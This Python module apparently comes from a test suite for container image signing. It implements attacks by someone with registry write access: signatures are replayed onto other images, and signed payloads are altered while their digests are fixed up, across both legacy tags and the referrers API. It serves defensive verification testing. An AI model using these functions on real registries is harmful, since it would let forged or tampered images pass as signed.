"""What an attacker with write access to the registry, but without the key, can do to a signature."""

import base64
import json
import pathlib

from stores import INDEX, MANIFEST, compact, digest


def signature_tag(image):
    return image.digest.replace(":", "-") + ".sig"


def fallback_tag(image):
    return image.digest.replace(":", "-")


def replay(registry, repository, form, image, other):
    """Presents every signature of `image` as one of `other`."""
    if form == "legacy":
        registry.push_manifest(repository, signature_tag(other), compact(registry.manifest(repository, signature_tag(image))))
        return
    subject = {"mediaType": MANIFEST, "digest": other.digest, "size": len(other.manifest)}
    put_referrers(registry, repository, other, [compact({**bundle, "subject": subject}) for bundle in referrers(registry, repository, image)])


def tamper(registry, repository, form, image):
    """Changes what was signed, keeps the signature, and makes all digests fit again."""
    if form == "legacy":
        manifest = registry.manifest(repository, signature_tag(image))
        rewrite_layer(registry, repository, manifest, lambda payload: payload.replace(b'"optional":{', b'"optional":{"added":"x",', 1))
        registry.push_manifest(repository, signature_tag(image), compact(manifest))
        return
    manifests = referrers(registry, repository, image)
    for manifest in manifests:
        rewrite_layer(registry, repository, manifest, change_statement)
    put_referrers(registry, repository, image, [compact(m) for m in manifests], instead=True)


def rewrite_layer(registry, repository, manifest, change):
    layer = manifest["layers"][0]
    _, before = registry.must("GET", f"/v2/{repository}/blobs/{layer['digest']}")
    after = change(before)
    if after == before:
        raise RuntimeError(f"nothing to change in {before[:200]!r}")
    registry.push_blob(repository, after)
    layer.update(digest=digest(after), size=len(after))


def change_statement(bundle):
    bundle = json.loads(bundle)
    statement = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    statement["subject"][0].setdefault("annotations", {})["added"] = "x"
    bundle["dsseEnvelope"]["payload"] = base64.b64encode(compact(statement)).decode()
    return compact(bundle)


def has_referrers(registry, repository, image):
    response, _ = registry.request("GET", f"/v2/{repository}/referrers/{image.digest}")
    return response.status == 200


def referrers(registry, repository, image):
    """The manifests that refer to `image`, by the API or by the fallback tag."""
    if has_referrers(registry, repository, image):
        _, data = registry.must("GET", f"/v2/{repository}/referrers/{image.digest}")
        index = json.loads(data)
    else:
        index = registry.manifest(repository, fallback_tag(image))
    return [registry.manifest(repository, entry["digest"]) for entry in index["manifests"]]


def put_referrers(registry, repository, image, manifests, instead=False):
    if instead and has_referrers(registry, repository, image):
        _, data = registry.must("GET", f"/v2/{repository}/referrers/{image.digest}")
        for entry in json.loads(data)["manifests"]:
            registry.must("DELETE", f"/v2/{repository}/manifests/{entry['digest']}")
    for manifest in manifests:
        registry.push_manifest(repository, digest(manifest), manifest)
    if not has_referrers(registry, repository, image):
        entries = [{"mediaType": MANIFEST, "digest": digest(m), "size": len(m), "artifactType": json.loads(m).get("artifactType", "")} for m in manifests]
        registry.push_manifest(repository, fallback_tag(image), compact({"schemaVersion": 2, "mediaType": INDEX, "manifests": entries}))


def key_into_bundle(path, public_key):
    bundle = json.loads(pathlib.Path(path).read_text())
    bundle["cert"] = base64.b64encode(pathlib.Path(public_key).read_bytes()).decode()
    pathlib.Path(path).write_text(json.dumps(bundle))
